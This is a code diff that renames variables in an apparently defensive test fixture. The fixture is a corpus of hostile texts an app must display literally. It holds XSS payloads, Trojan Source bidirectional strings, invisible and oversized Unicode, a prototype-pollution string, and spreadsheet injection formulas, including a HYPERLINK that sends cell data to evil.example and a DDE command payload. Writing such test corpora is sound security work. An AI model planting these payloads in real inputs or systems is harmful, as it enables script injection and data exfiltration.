@@ -1,7 +1,7 @@
 /** Global variable that an executed hostile text sets. */
-export const trace = 'geistHit'
+export const executionFlag = 'geistHit'
 
-const run = `globalThis.${trace}=1`
+const run = `globalThis.${executionFlag}=1`
 
 /**
  * Texts that would execute if the app treated them as HTML, a URL or a script. They follow the
@@ -14,7 +14,7 @@ const scripts = [
   `"><script src=data:text/javascript,${run}></script>`,
   `</p></article></textarea></title></style></script><img src=x onerror="${run}">`,
   `<svg/onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`,
-  `<iframe srcdoc="<script>parent.${trace}=1</script>"></iframe>`,
+  `<iframe srcdoc="<script>parent.${executionFlag}=1</script>"></iframe>`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
   `<a href="javascript:${run}" id=x tabindex=1 onfocus=${run} autofocus>press</a>`,
   `<form action=javascript:${run}><input type=submit autofocus></form><base href=//evil.example/>`,
@@ -30,14 +30,14 @@ const scripts = [
  * Texts that use bidirectional controls to reorder or disguise text: Boucher and Anderson, "Trojan
  * Source" (2021), and Unicode Standard Annex 9. The last one closes the enclosing isolates first.
  */
-const turned = [
+const bidirectional = [
   'The bill is \u202E007$ \u202Cand no more',
   'access \u2067admin \u2066// \u2069 \u2069 begin',
   '\u2069\u2069\u202C\u202Eout of its box',
 ]
 
 /** Texts with invisible characters: Unicode Technical Report 36. */
-const unseen = [
+const invisible = [
   'no\u200Bthing \u2060to\uFEFF see\u00AD here',
   '\u200B\u2800\u3164\u{E0041}',
   'tag\u{E0074}\u{E0061}\u{E0067}',
@@ -47,7 +47,7 @@ const unseen = [
  * Oversized texts: stacked combining marks ('Zalgo'), an unbroken word, a wide ligature, and an
  * emoji sequence of many parts.
  */
-const huge = [
+const oversized = [
   `Z${'\u0335\u0321\u0353\u034D\u0346\u0310'.repeat(30)}a${'\u0308\u030B\u0359'.repeat(60)}lgo`,
   'W'.repeat(600),
   '﷽'.repeat(40),
@@ -55,18 +55,18 @@ const huge = [
 ]
 
 /** Texts with a meaning in spreadsheets (OWASP, "CSV Injection"), YAML or Markdown. */
-const structures = [
+const markup = [
   `=HYPERLINK("https://evil.example/?"&A1,"press")`,
   `@SUM(1+1)*cmd|'/c calc'!A0`,
   `---\ncategory: taken over\n---\n\n# Not a title`,
-  `": {"__proto__": {"${trace}": 1}}, "`,
+  `": {"__proto__": {"${executionFlag}": 1}}, "`,
 ]
 
 /**
  * The corpus: texts that a user might write, import or get from an AI. The app must show them
  * literally. The largest come last, so that lists of only the latest entries show those.
  */
-export const hostileTexts: readonly string[] = [...scripts, ...turned, ...unseen, ...structures, ...huge]
+export const hostileTexts: readonly string[] = [...scripts, ...bidirectional, ...invisible, ...markup, ...oversized]
 
 /** Names that resemble 'ada' or look empty: Unicode Technical Standard 39. */
 export const lookalikes: readonly string[] = [
